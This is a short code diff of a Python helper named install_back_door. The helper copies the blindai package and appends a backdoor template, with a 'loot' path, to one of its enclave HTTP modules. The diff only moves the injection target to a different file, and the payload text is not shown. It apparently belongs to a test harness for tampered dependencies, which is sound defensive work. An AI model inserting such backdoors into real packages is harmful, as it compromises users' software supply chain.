@@ -121,7 +121,7 @@ def install_back_door(folder: Path, loot: Path) -> Path:
     """
     package = folder / "blindai"
     shutil.copytree(Path(blindai.__file__).parent, package, ignore=shutil.ignore_patterns("__pycache__"))
-    with (package / "enclave" / "http.py").open("a", encoding="utf-8") as file:
+    with (package / "enclave" / "http" / "connection.py").open("a", encoding="utf-8") as file:
         file.write(_BACK_DOOR.format(loot=str(loot)))
     return folder
 
